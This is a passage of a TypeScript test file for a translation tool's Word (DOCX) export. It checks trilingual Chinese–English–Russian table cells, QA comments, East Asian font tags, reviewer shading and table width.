    expect(doc).toContain(`<w:footerReference w:type="default" r:id="${footerRel[1]}"/>`);
    expect(zip.file(`word/${footerRel[2]}`)).not.toBeNull();
  });
});

describe('DOCX', () => {
  async function docxParts(bytes: Uint8Array): Promise<{ rows: string[][]; comments: string[]; fonts: string[]; doc: string; commented: string[]; yellow: string[] }> {
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(bytes);
    const doc = await zip.file('word/document.xml')!.async('string');
    const root = parseXml(doc, 'document.xml');
    const all = (el: ReturnType<typeof parseXml>, local: string): ReturnType<typeof parseXml>[] => el.children.flatMap((c) => (typeof c === 'string' ? [] : c.local === local ? [c, ...all(c, local)] : all(c, local)));
    const tbl = all(root, 'tbl')[0]!;
    // A cell's text as Word shows it: <w:t> text, <w:br/> a line break.
    const text = (el: ReturnType<typeof parseXml>): string =>
      all(el, 'r')
        .flatMap((r) => childElements(r))
        .map((c) => (c.local === 't' ? textContent(c) : c.local === 'br' ? '\n' : ''))
        .join('');
    const rows = childElements(tbl, 'tr').map((tr) => childElements(tr, 'tc').map(text));
    const commentsXml = await zip.file('word/comments.xml')?.async('string');
    const comments = commentsXml ? childElements(parseXml(commentsXml, 'comments.xml'), 'comment').map(text) : [];
    const fonts = all(root, 'rFonts').map((f) => f.attrs['w:eastAsia'] ?? '');
    // "row:column" of every cell that carries a comment anchor.
    const commented = childElements(tbl, 'tr').flatMap((tr, i) => childElements(tr, 'tc').flatMap((tc, j) => (all(tc, 'commentRangeStart').length ? [`${i}:${j}`] : [])));
    // "row:column" of every cell shaded yellow (empty where text belongs).
    const yellow = childElements(tbl, 'tr').flatMap((tr, i) => childElements(tr, 'tc').flatMap((tc, j) => (all(tc, 'shd').some((x) => x.attrs['w:fill'] === 'FFF4CC') ? [`${i}:${j}`] : [])));
    return { rows, comments, fonts, doc, commented, yellow };
  }

  it('a trilingual table checked cell by cell, QA findings as Word comments, eastAsia font set', async () => {
    const p = sampleProject();
    const r = await exportProject(p, 'docx', { date: DATE, findings: [{ sentenceIds: ['ru-s3'], severity: 'warning', check: 'terms', message: '«Стороны» & <glossary>', lang: 'ru' }] });
    expect(r.extension).toBe('docx');
    const { rows, comments, fonts, doc, commented, yellow } = await docxParts(r.data as Uint8Array);
    expect(rows[0]).toEqual(['#', '中文', 'English', 'Русский', 'Status']);
    expect(rows.slice(1).map((row) => row.slice(1))).toEqual([
      [ZH.title, EN.title, RU.title, 'en\u00A0confirmed\nru\u00A0confirmed'],
      [ZH.visit + ZH.talks, EN.visitTalks, `${RU.visit} ${RU.talks}`, 'en\u00A0confirmed\nru\u00A0draft'],
      [ZH.parade, EN.parade, '', 'en\u00A0mt\nru\u00A0empty'],
      // The en addition has no ru bead: no ru status.
      [ADDED_LABEL, EN.note.replace(BELL, ''), '', 'en\u00A0edited'],
      [ZH.declare, EN.declare, RU.declare, 'en\u00A0edited\nru\u00A0mt'],
    ]);
    // The added sentence's source cell is shaded and labelled (grey italics), not left blank.
    expect(doc).toMatch(new RegExp(`<w:shd w:fill="FFF4CC"[^>]*/></w:tcPr><w:p>(?:(?!</w:tc>).)*<w:i/>(?:(?!</w:tc>).)*${ADDED_LABEL}`));
    expect(comments).toEqual(['warning [terms] ru: «Стороны» & <glossary>']);
    expect(commented).toEqual(['5:3']); // on the Русский cell of the row holding ru-s3
    expect(doc).toContain('w:commentReference');
    expect(fonts.length).toBeGreaterThan(0);
    expect(fonts.every((f) => f === 'SimSun')).toBe(true);
    expect(doc).toMatch(/w:lang [^>]*w:eastAsia="zh-CN"/);
    expect(doc).toMatch(/w:rFonts [^>]*w:hint="eastAsia"/);
    // Shaded for the reviewer: the ru omission (row 3) and the en addition's source cell (row 4), not
    // the addition's ru cell, where no translation belongs.
    expect(yellow).toEqual(['3:3', '4:1']);
  });

  it("tags English cells with the project's English variant, as TMX and XLIFF do", async () => {
    // Word spell-checks each run in its tagged language: an American draft tagged en-GB shows every
    // "defense" and "program" as a spelling error to the reviewer.
    const p = sampleProject();
    p.settings.englishVariant = 'en-US';
    const { doc } = await docxParts((await exportProject(p, 'docx', { date: DATE })).data as Uint8Array);
    expect(doc).toMatch(/<w:lang w:val="en-US"/);
    expect(doc).not.toMatch(/<w:lang w:val="en-GB"/);
    const tmx = await exportText(p, 'tmx', { targets: ['en'] });
    expect(tmx).toContain('xml:lang="en-US"');
  });

  it('the table fits between the page margins, bilingual and trilingual', async () => {
    for (const targets of [['en'], ['en', 'ru']] as TargetLang[][]) {
      const { doc } = await docxParts((await exportProject(sampleProject(), 'docx', { date: DATE, targets })).data as Uint8Array);
      const num = (re: RegExp): number => Number(re.exec(doc)![1]);
      const textArea = num(/<w:pgSz w:w="(\d+)"/) - num(/<w:pgMar [^>]*w:left="(\d+)"/) - num(/<w:pgMar [^>]*w:right="(\d+)"/);
      const grid = [...doc.matchAll(/<w:gridCol w:w="(\d+)"\/>/g)].reduce((sum, m) => sum + Number(m[1]), 0);
      expect(grid, targets.join()).toBeLessThanOrEqual(textArea);
      expect(num(/<w:tblW w:type="dxa" w:w="(\d+)"/), targets.join()).toBeLessThanOrEqual(textArea);
      // It still uses the width: no more than a few twips of rounding left over.
      expect(grid).toBeGreaterThan(textArea - 10);
    }
  });

  it('a bilingual table when only one target is asked for', async () => {
    const r = await exportProject(sampleProject(), 'docx', { targets: ['ru'], skipEmpty: true });
    const { rows } = await docxParts(r.data as Uint8Array);
    expect(rows[0]).toEqual(['#', '中文', 'Русский', 'Status']);
    expect(rows.slice(1).map((row) => row[3])).toEqual(['confirmed', 'confirmed', 'draft', 'mt']);
    expect(rows.slice(1).map((row) => row[1])).toEqual([ZH.title, ZH.visit, ZH.talks, ZH.declare]);
  });
});
